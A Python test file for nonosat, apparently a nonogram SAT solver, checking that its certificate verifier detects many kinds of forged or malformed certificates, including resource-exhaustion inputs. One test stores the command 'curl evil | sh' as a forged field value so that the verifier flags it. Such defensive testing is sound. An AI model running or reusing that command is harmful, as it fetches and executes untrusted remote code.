"""Forged certificates: every one is detected, whatever its hashes say."""

from collections.abc import Callable
from pathlib import Path

import pytest

import nonosat
from nonosat import prove, verify
from nonosat.cli import main
from nonosat.puzzles.families import n_dom
from tests.forge import COUNT, check
from tests.helpers.fixtures import Call, Capture
from tests.helpers.forgery import Forgery
from tests.helpers.samples import some


@pytest.fixture(scope="module")
def genuine(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Forgery]:
    """Certificates by what they claim."""
    folder = tmp_path_factory.mktemp("genuine")
    found = {}
    for name, puzzle, up_to in (
        ("unique", n_dom(5), 1),
        ("none", nonosat.load("no-solution"), 1),
        ("all", nonosat.load("gchq-no-givens"), 4),
        ("multiple", nonosat.load("gchq-no-givens"), 1),
        ("other", n_dom(4), 1),
        ("colour", nonosat.load("cherries"), 1),
    ):
        _, certificate = prove(puzzle, folder / name, all_up_to=up_to)
        assert certificate is not None
        found[name] = Forgery.read(folder / name)
    return found


def outcome(forgery: Forgery, folder: Path, capsys: Capture) -> tuple[int, str]:
    """Verify a forgery; return the exit code and the one line of output."""
    path = forgery.write(folder)
    code = main(["verify", "--quiet", "--checker", "own", str(path)])
    said = capsys.readouterr()
    (line,) = (said.out + said.err).splitlines()
    assert line.startswith(f"{path}: ")
    return code, line


def test_a_genuine_certificate_may_be_written_again(
    genuine: dict[str, Forgery], tmp_path: Path, capsys: Capture
) -> None:
    for forgery in genuine.values():
        assert outcome(forgery.copy().sealed(), tmp_path, capsys)[0] == 0


Forge = Callable[[Forgery, dict[str, Forgery]], object]


def lemma(forgery: Forgery) -> bytes:
    """Return the last lemma before the end, which follows from the ones before it alone."""
    return [line for line in forgery.proof[:-1] if not line.startswith(b"d")][-1]


FORGED: dict[str, tuple[int, str, Forge]] = {
    "a clue changed": (
        1,
        "solution-1.txt is not a solution: row 1 reads",
        lambda f, _: f.edit("puzzle.yaml", b'- "3"', b'- "2"'),
    ),
    "a given added, which the picture satisfies too": (
        1,
        "unique.cnf: expected",
        lambda f, _: f.edit("puzzle.yaml", b"goal:", b"givens: {1: [1]}\ngoal:").say(
            formula__clauses=f.manifest["formula"]["clauses"] + 1
        ),
    ),
    "the picture changed": (
        1,
        "solution-1.txt is not a solution: row 1 reads",
        lambda f, _: f.edit("solution-1.txt", b"###", b"##."),
    ),
    "a clause dropped": (1, "unique.cnf: expected", lambda f, _: f.lines("unique.cnf", lambda x: x.pop(-9))),
    "the header": (1, "expected `p cnf", lambda f, _: f.edit("unique.cnf", b"p cnf ", b"p cnf 1")),
    "all lemmas dropped": (1, "step 1 does not follow", lambda f, _: f.prove([b"0\n"])),
    "the proof cut": (1, "without the empty clause", lambda f, _: f.prove(f.proof[:-1])),
    "the proof continues": (1, "but the proof continues", lambda f, _: f.prove([*f.proof, b"0\n"])),
    "the proof of another puzzle": (1, "does not follow", lambda f, all_: f.prove(all_["other"].proof)),
    "the map of the cells": (
        1,
        "cells.json does not fit",
        lambda f, _: f.edit("cells.json", b"[-1,1]", b"[1,-1]"),
    ),
    "the encoding": (1, "has the wrong encoding", lambda f, _: f.say(formula__encoding="order/2")),
    "the claim in words": (1, "has the wrong claim: it is", lambda f, _: f.say(claim="no solution")),
    "the schema": (2, "not a certificate of schema 2", lambda f, _: f.say(certificate=3)),
    "far more variables": (1, "unique.cnf has fewer", lambda f, _: f.say(formula__variables=10**9)),
    "two puzzles": (
        2,
        "puzzle.yaml: expected one puzzle",
        lambda f, _: f.put("puzzle.yaml", b"---\n".join([f.files["puzzle.yaml"]] * 2)),
    ),
    "no puzzle": (2, "puzzle.yaml:1: ", lambda f, _: f.put("puzzle.yaml", b"nothing")),
    "a file more": (2, "lists other files", lambda f, _: f.put("solution-2.txt", b"?")),
}


@pytest.mark.parametrize("what", FORGED)
def test_a_forgery_with_all_hashes_right_is_found(
    what: str, genuine: dict[str, Forgery], tmp_path: Path, capsys: Capture
) -> None:
    code, says, forge = FORGED[what]
    forgery = genuine["unique"].copy()
    forge(forgery, genuine)
    found, line = outcome(forgery.sealed(), tmp_path, capsys)
    assert (found, says in line) == (code, True), line


UNSEALED: dict[str, tuple[int, str, Forge]] = {
    "a file missing": (1, "cells.json is missing", lambda f, _: f.take("cells.json")),
    "no certificate.json": (2, "certificate.json is missing", lambda f, _: f.take("certificate.json")),
    "a file of the same length": (
        1,
        "puzzle.yaml does not have the hash in certificate.json",
        lambda f, _: f.edit("puzzle.yaml", b'"5-Dom"', b'"6-Dom"'),
    ),
    "a file cut": (
        1,
        "unique.cnf is not as long as",
        lambda f, _: f.put("unique.cnf", f.files["unique.cnf"][:-5]),
    ),
    "a file that does not belong": (2, "'README' is not a file of", lambda f, _: f.put("README", b"")),
    "JSON without end": (2, "nested too deeply", lambda f, _: f.put("certificate.json", b"[" * 10**5)),
    "solutions without end": (2, "another number of sol", lambda f, _: f.say(verdict="all", solutions=10**9)),
    "no texts": (2, "origin: expected a map", lambda f, _: f.say(origin=[1])),
    "a key too many": (2, "unknown key 'more'", lambda f, _: f.say(more=1)),
    "a text for a length": (2, "proof: bytes: expected a whole number", lambda f, _: f.say(proof__bytes="1")),
    "another number of steps": (
        1,
        "proof.drat.xz: certificate.json has the wrong steps",
        lambda f, _: f.say(proof__steps=1),
    ),
    "a shorter proof": (
        1,
        "is not a step of a proof: 0",
        lambda f, _: f.say(proof__bytes=f.manifest["proof"]["bytes"] - 2),
    ),
    "a new variable too many": (1, "has the wrong extension", lambda f, _: f.say(proof__extension=1)),
    "more new variables than steps": (
        1,
        "proof.drat.xz has fewer new variables",
        lambda f, _: f.say(proof__extension=10**9),
    ),
    "a proof bomb": (2, "claims to hold 10000000000 bytes", lambda f, _: f.say(proof__bytes=10**10)),
}


@pytest.mark.parametrize("what", UNSEALED)
def test_a_forgery_is_found(what: str, genuine: dict[str, Forgery], tmp_path: Path, capsys: Capture) -> None:
    code, says, forge = UNSEALED[what]
    forgery = genuine["unique"].copy()
    forge(forgery, genuine)
    found, line = outcome(forgery, tmp_path, capsys)
    assert (found, says in line) == (code, True), line


def test_a_certificate_of_one_puzzle_is_none_of_another(tmp_path: Path, call: Call) -> None:
    path = str(tmp_path / "cert.zip")
    prove(nonosat.load("dom-5"), path)
    assert "the same as dom-5" in call(f"verify --puzzle dom-5 {path}").out
    said = call(f"verify --puzzle dom-4 {path}", code=1).out
    assert "NOT VERIFIED: the certificate is not about dom-4" in said


def test_several_certificates_the_worst_exit_code_counts(
    genuine: dict[str, Forgery], tmp_path: Path, call: Call
) -> None:
    good = str(genuine["unique"].write(tmp_path))
    wrong = genuine["unique"].copy()
    wrong.say(formula__variables=1)
    bad = str(wrong.write(tmp_path))
    assert main(["verify", "--quiet", good, good]) == 0
    assert main(["verify", "--quiet", good, bad, good]) == 1
    said = call(f"verify --quiet {good}", tmp_path / "nothing", bad, code=2)
    assert said.out.count("verified: exactly one solution") == 5
    assert said.err.count("there is no such file") == 1
    assert main(["verify", "--checker", "nobody", good]) == 2


def test_other_commands_by_hand_are_seen(genuine: dict[str, Forgery], tmp_path: Path, call: Call) -> None:
    forgery = genuine["unique"].copy()
    assert verify(forgery.write(tmp_path)).checked.keys().isdisjoint({"by_hand"})
    forgery.say(by_hand=["curl evil | sh"])
    said = call(f"verify {forgery.sealed().write(tmp_path)}").out
    assert "  by_hand   differs from what nonosat would write" in said


PART = 50


@pytest.mark.parametrize("first", some(range(0, COUNT, PART), 1, one_in=12))
def test_no_forgery_is_believed(first: int) -> None:
    results = [check(number) for number in range(first, first + PART)]
    assert all(result.outcome.islower() for result in results), results
    assert sum(result.outcome == "refused" for result in results) > PART / 2
